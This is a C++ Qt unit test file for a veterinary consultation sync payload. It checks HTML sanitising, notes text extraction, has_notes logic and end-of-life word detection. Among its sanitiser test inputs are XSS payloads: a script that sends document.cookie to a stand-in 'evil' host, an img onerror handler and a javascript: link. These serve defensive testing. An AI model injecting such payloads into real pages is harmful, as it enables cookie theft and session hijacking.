// The consultation payload from the parser fixtures: notes_html sanitised, notes_text and
// discharge_summary as text, has_notes, product lines split by isDeclined, providers with their role.

#include "sync/core/canonical_json.h"
#include "sync/core/end_of_life.h"
#include "sync/core/end_of_life_vocabulary.h"
#include "sync/core/html_sanitizer.h"
#include "sync/core/html_text.h"
#include "sync/core/item_key.h"
#include "tests/unit/payload_tests.h"

using namespace odis::sync;
using namespace odis::test::payload;

void TstPayloads::consultation_data()
{
    QTest::addColumn<QString>("file");
    QTest::addColumn<QString>("appointmentId"); // its row in schedule_current.json
    QTest::addColumn<QByteArray>("expected");
    QTest::addColumn<QString>("notesText"); // hand-derived by the rules of docs/backend-api.md

    // The HTML is the fixture's, sanitised; the text: block ends become line breaks, cells run together,
    // &amp; &lt; &nbsp; &#176; are decoded, &ndash; is not one of the decoded names.
    QTest::newRow("current shape, discharge summary, declined line, fractional quantity")
        << "consultation_current.json"
        << "482913"
        << QByteArray(R"({"neo_consultation_id":"731204","neo_appointment_id":"482913","date":"2026-03-10",
            "status":"completed","reason":"Annual wellness exam",
            "discharge_summary":"BISCUIT is healthy. Next vaccines due 03/2027.\nCall us with any questions.",
            "has_notes":true,
            "products_services":[{"name":"Exam - Comprehensive","quantity":1},{"name":"DHPP vaccine 1yr","quantity":1},
                                 {"name":"Carprofen 75mg tablet","quantity":14},{"name":"Nail trim","quantity":0.5}],
            "declined_products_services":[{"name":"Senior bloodwork panel","quantity":1}],
            "providers":[{"id":"5101","name":"Dr. Amelia Chen","role":"Vet"},
                         {"id":"5107","name":"Kim Lee","role":"Tech"}]})")
        << QString::fromUtf8("Subjective\n"
                             "Owner reports BISCUIT has been eating well & drinking normally.\n"
                             "No vomiting/diarrhoea.\n"
                             "Objective\n"
                             "Weight12.4 kg\n"
                             "Temp38.6 \xc2\xb0"
                             "C\n"
                             "Assessment\n"
                             "Healthy adult dog; mild tartar (grade 1).\n"
                             "Plan\n"
                             "DHPP booster given\n"
                             "Dental in 6&ndash;12 months\n"
                             "Recheck if appetite < normal");
    QTest::newRow("summary from consultationNotes, date only, no lines")
        << "consultation_current_notes_fallback.json"
        << "482914"
        << QByteArray(R"({"neo_consultation_id":"731205","neo_appointment_id":"482914","date":"2026-03-10",
            "status":"completed","reason":"DHPP booster",
            "discharge_summary":"Keep ZOÉ indoors for 24 h.\nMild lethargy is normal.","has_notes":true,
            "products_services":[],"declined_products_services":[],
            "providers":[{"id":"5101","name":"Dr. Amelia Chen","role":"Vet"}]})")
        << QStringLiteral("Vaccine given SC right shoulder.\nNo reaction observed.");
    QTest::newRow("older shape, null discharge summary")
        << "consultation_older.json"
        << "482916"
        << QByteArray(R"({"neo_consultation_id":"731206","neo_appointment_id":"482916","date":"2026-03-10",
            "status":"completed","reason":"Vomiting since yesterday","discharge_summary":"","has_notes":true,
            "products_services":[],"declined_products_services":[],
            "providers":[{"id":"5102","name":"Dr. Rahul Patel","role":"Vet"}]})")
        << QStringLiteral("Vomited x3 overnight. Bright, alert.\nPlan: bland diet 3 days, maropitant.");
}

void TstPayloads::consultation()
{
    QFETCH(QString, file);
    QFETCH(QString, appointmentId);
    QFETCH(QByteArray, expected);
    QFETCH(QString, notesText);

    const std::optional<NeoScheduleEvent> event =
        scheduleEvent(QStringLiteral("schedule_current.json"), appointmentId);
    QVERIFY(event && event->consultationId);
    const std::optional<NeoConsultation> read = readConsultation(file, *event->consultationId);
    QVERIFY(read);

    const auto payload = consultationPayload(*read, *event);
    QVERIFY2(payload, payload ? "" : qPrintable(payload.error().toString()));
    QJsonObject want = json(expected);
    want.insert(QStringLiteral("notes_html"), sanitizeNotesHtml(read->notesHtml));
    want.insert(QStringLiteral("notes_text"), notesText);
    QCOMPARE(canonicalJson(*payload), canonicalJson(want));

    // notes_html is the sanitised form of what the fixture holds, with the same text.
    const QJsonObject raw = QJsonDocument::fromJson(odis::test::readFixture(u"neo/" + file)).object();
    const QJsonObject rawConsultation = raw.contains(QStringLiteral("consultation"))
                                            ? raw.value(QStringLiteral("consultation")).toObject()
                                            : raw.value(QStringLiteral("pageData"))
                                                  .toObject()
                                                  .value(QStringLiteral("consultation"))
                                                  .toObject();
    const QString rawNotes = rawConsultation.value(QStringLiteral("notes")).toString();
    QCOMPARE(payload->value(QStringLiteral("notes_html")).toString(), sanitizeNotesHtml(rawNotes));
    QCOMPARE(htmlToText(payload->value(QStringLiteral("notes_html")).toString()), htmlToText(rawNotes));

    QCOMPARE(keySet(*payload), kConsultationFields);
    verifyLines(payload->value(QStringLiteral("products_services")).toArray(), kLineFields);
    verifyLines(payload->value(QStringLiteral("declined_products_services")).toArray(), kLineFields);
    verifyLines(payload->value(QStringLiteral("providers")).toArray(), kConsultationProviderFields);
    QCOMPARE(consultationKey(payload->value(QStringLiteral("neo_consultation_id")).toString()),
             QStringLiteral("consultation:") + *event->consultationId);
}

void TstPayloads::consultationHasNotes_data()
{
    QTest::addColumn<QString>("notes");
    QTest::addColumn<QString>("summary");
    QTest::addColumn<bool>("hasNotes");

    QTest::newRow("nothing") << ""
                             << "" << false;
    QTest::newRow("only markup and white space") << "<p> &nbsp; </p><br>\n"
                                                 << "<div></div>" << false;
    QTest::newRow("script only") << "<script>var notes = 1;</script>"
                                 << "" << false;
    QTest::newRow("notes") << "<p>Bright</p>"
                           << "" << true;
    QTest::newRow("summary only") << ""
                                  << "Rest for 2 days" << true;
}

void TstPayloads::consultationHasNotes()
{
    QFETCH(QString, notes);
    QFETCH(QString, summary);
    QFETCH(bool, hasNotes);

    const NeoScheduleEvent event = finishedVisit();
    NeoConsultation read;
    read.id = *event.consultationId;
    read.notesHtml = notes;
    read.dischargeSummaryHtml = summary;
    const auto payload = consultationPayload(read, event);
    QVERIFY(payload);
    QCOMPARE(payload->value(QStringLiteral("has_notes")).toBool(), hasNotes);
    QCOMPARE(payload->value(QStringLiteral("notes_html")).toString(), sanitizeNotesHtml(notes));
    QCOMPARE(payload->value(QStringLiteral("notes_text")).toString().isEmpty() &&
                 payload->value(QStringLiteral("discharge_summary")).toString().isEmpty(),
             !hasNotes);
    // Neo gave no date: the visit's date stands in.
    QCOMPARE(payload->value(QStringLiteral("date")).toString(), QStringLiteral("2026-03-10"));
}

void TstPayloads::consultationRefusesInconsistentInput()
{
    NeoScheduleEvent event = finishedVisit();
    NeoConsultation read;
    read.id = QStringLiteral("700002");
    auto payload = consultationPayload(read, event);
    QVERIFY(!payload);
    QCOMPARE(payload.error().code, QStringLiteral("payload_input_invalid"));

    read.id = *event.consultationId;
    event.start = {};
    payload = consultationPayload(read, event);
    QVERIFY(!payload);
    QCOMPARE(payload.error().code, QStringLiteral("payload_incomplete"));
}

void TstPayloads::consultationNotesSanitised_data()
{
    QTest::addColumn<QString>("notes");
    QTest::addColumn<QString>("notesHtml"); // what the payload carries
    QTest::addColumn<bool>("endOfLife");    // what the end-of-life matcher reads in it

    QTest::newRow("script and handler")
        << "<script>fetch('//evil?c='+document.cookie)</script><p onclick=\"x()\">Ate well</p>"
        << "<p>Ate well</p>" << false;
    QTest::newRow("img onerror") << "<img src=x onerror=alert(1)>Bright"
                                 << "Bright" << false;
    QTest::newRow("end of life inside a link") << "<a href=\"javascript:x\">Patient deceased</a> at 9am"
                                               << "Patient deceased at 9am" << true;
    QTest::newRow("end of life split by dropped markup")
        << "<p>Owner says he <font color=red>passed</font><span style=x> away</span></p>"
        << "<p>Owner says he passed<span> away</span></p>" << true;
    QTest::newRow("end of life inside svg text") << "<svg><text>euthanasia</text></svg>"
                                                 << "euthanasia" << true;
    QTest::newRow("end of life after a stray end tag") << "put to</p>sleep"
                                                       << "put to<br>sleep" << true;
    QTest::newRow("end of life in an attribute only") << "<div title=\"euthanasia\">Routine</div>"
                                                      << "<div>Routine</div>" << false;
}

void TstPayloads::consultationNotesSanitised()
{
    QFETCH(QString, notes);
    QFETCH(QString, notesHtml);
    QFETCH(bool, endOfLife);

    NeoConsultation read;
    read.id = *finishedVisit().consultationId;
    read.notesHtml = notes;
    const auto payload = consultationPayload(read, finishedVisit());
    QVERIFY(payload);
    const QString uploaded = payload->value(QStringLiteral("notes_html")).toString();
    QCOMPARE(uploaded, notesHtml);
    QCOMPARE(payload->value(QStringLiteral("notes_text")).toString(), htmlToText(notes));
    // The sanitiser must neither hide an end-of-life word from the rules nor make one up.
    const auto vocabulary = loadEndOfLifeVocabulary();
    QVERIFY2(vocabulary, qPrintable(vocabulary ? QString() : vocabulary.error().toString()));
    const EndOfLifeMatcher matcher(*vocabulary, {});
    QCOMPARE(!matcher.findIn(uploaded).endOfLife.isEmpty(), endOfLife);
    QCOMPARE(!matcher.findIn(notes).endOfLife.isEmpty(), endOfLife);
}
